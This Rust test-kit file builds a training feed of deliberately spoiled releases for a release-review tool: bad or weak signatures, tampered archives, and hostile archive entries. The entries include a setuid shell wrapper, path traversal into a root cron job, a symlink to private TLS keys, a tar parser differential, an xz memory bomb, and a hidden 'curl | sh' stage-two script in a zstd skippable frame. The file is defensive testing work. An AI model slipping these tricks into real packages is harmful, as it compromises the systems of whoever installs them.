//! The `training/` feed: one release per lesson, each spoiling one thing a
//! good release has, so one check speaks the way a reviewer should learn
//! to recognise.

use anyhow::Result;
use sequoia_openpgp::types::HashAlgorithm;

use super::{DemoKeys, contents_section, release, tree};
use crate::testkit::archives::{self, Entry};
use crate::testkit::hostile::{self, RawTar};
use crate::testkit::hostile_compress;
use crate::testkit::keys::{self, SignSpec};
use crate::testkit::layout::{FeedSpec, FileSpec, ReleaseSpec};
use crate::testkit::ts;

/// The training feed's product id.
pub const TRAINING_ID: &str = "meridian-training";

pub(super) fn training_feed(k: &DemoKeys) -> Result<FeedSpec> {
    let mut feed = FeedSpec::pinning(&k.release)?;
    // Its own product id: a lesson approved for practice must never become
    // the demo product's (or a real product's) last approval, nor its
    // store feed (which this feed's compromised 2024 key must never enter).
    feed.id = TRAINING_ID.into();
    feed.certificates[0].name = "northwind-release-2026.asc".into();
    feed.also_pin("northwind-release-2024.asc", &k.release_2024)?;
    feed.expires = Some("2036-12-31".into());
    feed.releases = evidence_lessons(k)?;
    feed.releases.extend(safety_lessons(k)?);
    feed.releases.extend(compression_lessons(k)?);
    feed.releases.push(super::sbom::sbom_disagrees_lesson(k)?);
    Ok(feed)
}

/// The lessons about the vendor's evidence: the checksums, their
/// signatures, and the size the feed gives.
fn evidence_lessons(k: &DemoKeys) -> Result<Vec<ReleaseSpec>> {
    let at = || SignSpec::at(ts("2026-03-02T10:14:07Z"));
    Ok(vec![
        lesson(k, "tampered", |r, _| {
            // The archive rebuilt with another binary after the vendor signed SHA256SUMS.
            let mut entries = tree("tampered", false);
            entries[2] = Entry::file(
                "meridian-tampered/bin/meridian",
                archives::noise(12_000, 666),
            )
            .mode(0o755);
            r.artifacts[0].file.bytes = archives::tar_gz(&entries)?;
            r.artifacts[0].signature = None;
            r.artifacts[0].size = None;
            Ok(())
        })?,
        lesson(k, "unpinned-signer", |r, k| {
            r.resign_checksums(&k.build_bot, at())?;
            r.artifacts[0].signature = None;
            r.extra_files.push(FileSpec::new(
                "northwind-build-bot.asc",
                keys::public_armored(&k.build_bot)?,
            ));
            Ok(())
        })?,
        lesson(k, "md5-only", |r, _| {
            let a = &r.artifacts[0].file;
            let md5 = hex::encode(md5_digest(&a.bytes));
            r.checksums = FileSpec::new("MD5SUMS", format!("{md5}  {}\n", a.name));
            r.checksums_signature = None;
            Ok(())
        })?,
        lesson(k, "sha1-signature", |r, k| {
            r.resign_checksums(&k.release, at().hash(HashAlgorithm::SHA1))?;
            r.artifacts[0].signature = None;
            Ok(())
        })?,
        lesson(k, "revoked-key", |r, k| {
            r.resign_checksums(&k.release_2024, SignSpec::at(ts("2025-06-01T00:00:00Z")))?;
            r.artifacts[0].signature = None;
            Ok(())
        })?,
        lesson(k, "wrong-size", |r, _| {
            r.artifacts[0].size = r.artifacts[0].size.map(|s| s + 4096);
            Ok(())
        })?,
        lesson(k, "unsigned", |r, _| {
            r.checksums_signature = None;
            r.artifacts[0].signature = None;
            Ok(())
        })?,
    ])
}

/// The lessons about what the archive would do once installed.
fn safety_lessons(k: &DemoKeys) -> Result<Vec<ReleaseSpec>> {
    Ok(vec![
        safety_lesson(
            k,
            "setuid-helper",
            Entry::file(
                "meridian-setuid-helper/bin/meridian-helper",
                "#!/bin/sh\nexec /bin/sh \"$@\"\n",
            )
            .mode(0o4755),
        )?,
        safety_lesson(
            k,
            "path-traversal",
            Entry::file(
                "meridian-path-traversal/../../etc/cron.d/meridian",
                "* * * * * root /opt/meridian/bin/meridian --phone-home\n",
            ),
        )?,
        safety_lesson(
            k,
            "symlink-escape",
            Entry::symlink(
                "meridian-symlink-escape/conf/tls",
                "../../../../etc/ssl/private",
            ),
        )?,
        safety_lesson(
            k,
            "world-writable",
            Entry::file(
                "meridian-world-writable/conf/logging.toml",
                "[log]\nlevel = \"info\"\n",
            )
            .mode(0o666),
        )?,
        two_names_lesson(k)?,
    ])
}

/// One lesson release: a good release on its own channel, then `spoil`.
fn lesson(
    k: &DemoKeys,
    version: &str,
    spoil: impl FnOnce(&mut ReleaseSpec, &DemoKeys) -> Result<()>,
) -> Result<ReleaseSpec> {
    let mut r = release(
        version,
        "2026-03-02",
        &k.release,
        "2026-03-02T10:14:07Z",
        &["linux-x86_64"],
    )?;
    r.channel = version.to_string();
    spoil(&mut r, k)?;
    Ok(r)
}

/// A tar.gz written header by header (for entries archive tools refuse).
fn raw_tar_gz(entries: &[Entry]) -> Vec<u8> {
    hostile::gz(&raw_tar(entries).finish())
}

/// The entries as a tar written header by header, not yet finished.
fn raw_tar(entries: &[Entry]) -> RawTar {
    let mut t = RawTar::new();
    for e in entries {
        t = match &e.kind {
            archives::Kind::File(data) => t.file_mode(&e.path, e.mode, data),
            archives::Kind::Dir => t.entry(e.path.as_bytes(), hostile::kind::DIR, e.mode, b"", b""),
            archives::Kind::Symlink(target) => t.symlink(&e.path, target),
        };
    }
    t
}

/// A safety lesson: the demo tree plus one hostile entry, which the notes
/// list (without a mode), so only the safety check speaks.
fn safety_lesson(k: &DemoKeys, version: &str, hostile_entry: Entry) -> Result<ReleaseSpec> {
    let mut entries = tree(version, false);
    entries.push(hostile_entry);
    lesson_with_notes(k, version, "tar.gz", raw_tar_gz(&entries), &entries)
}

/// The parser-differential lesson: the demo tree, then one entry whose PAX
/// header names the declared `conf/logging.toml` while a GNU long name
/// before the PAX header names `bin/meridian`. GNU tar (and intake's
/// contents table) see the first; bsdtar and Python's tarfile take the
/// second and replace the engine's binary with a configuration file.
fn two_names_lesson(k: &DemoKeys) -> Result<ReleaseSpec> {
    let version = "two-names";
    let entries = tree(version, false);
    let logging = "[log]\nlevel = \"info\"\n";
    let mut declared = entries.clone();
    declared.push(Entry::file("meridian-two-names/conf/logging.toml", logging));
    let tar = raw_tar(&entries)
        .gnu_long_name(b"meridian-two-names/bin/meridian")
        .pax(&[("path", b"meridian-two-names/conf/logging.toml")])
        .file("meridian-two-names/conf/logging.toml", logging.as_bytes());
    lesson_with_notes(k, version, "tar.gz", hostile::gz(&tar.finish()), &declared)
}

/// The lessons about the compressed bytes around the archive: what a
/// decompressor would pass over, or allocate, without a word.
fn compression_lessons(k: &DemoKeys) -> Result<Vec<ReleaseSpec>> {
    // A script after the archive in a zstd skippable frame: `zstd -d` and
    // tar skip it, so nobody reviewing the listing would see it.
    let version = "hidden-frame";
    let entries = tree(version, false);
    let mut zst = archives::tar_zst(&entries)?;
    zst.extend(hostile_compress::zstd_skippable(
        b"#!/bin/sh\n# stage two, for an installer that knows where to look\ncurl -s https://updates.northwind.example/stage2 | sh\n",
    ));
    let hidden = lesson_with_notes(k, version, "tar.zst", zst, &entries)?;
    // A good archive whose xz block header asks for a 3 GiB dictionary: a
    // decoder that believes it allocates 3 GiB before the first byte.
    let version = "xz-dictionary";
    let entries = tree(version, false);
    let xz = hostile_compress::xz_dictionary(&archives::tar_xz(&entries)?, 39)?;
    let dictionary = lesson_with_notes(k, version, "tar.xz", xz, &entries)?;
    Ok(vec![hidden, dictionary])
}

/// A lesson's release: its archive (of kind `ext`) signed like a good one,
/// with release notes declaring `declared`, so only the safety check speaks.
fn lesson_with_notes(
    k: &DemoKeys,
    version: &str,
    ext: &str,
    archive: Vec<u8>,
    declared: &[Entry],
) -> Result<ReleaseSpec> {
    let name = format!("meridian-{version}-linux-x86_64.{ext}");
    let signed_at = ts("2026-03-02T10:14:07Z");
    let files = vec![("linux-x86_64", FileSpec::new(&name, archive))];
    let mut r = ReleaseSpec::signed(version, "2026-03-02", &k.release, signed_at, files)?;
    r.channel = version.to_string();
    let mut notes =
        format!("# Meridian Interface Engine {version}\n\nDemo release notes (safety lesson).\n\n");
    notes.push_str(&contents_section(&name, declared));
    r.notes = Some(FileSpec::new("RELEASE-NOTES.md", notes));
    Ok(r)
}

/// MD5, only to write the lesson's MD5SUMS (never used to judge).
fn md5_digest(data: &[u8]) -> [u8; 16] {
    use sequoia_openpgp::types::HashAlgorithm;
    let mut ctx = match HashAlgorithm::MD5.context() {
        Ok(b) => b.for_digest(),
        Err(_) => return [0; 16],
    };
    ctx.update(data);
    let mut out = [0u8; 16];
    let _ = ctx.digest(&mut out);
    out
}
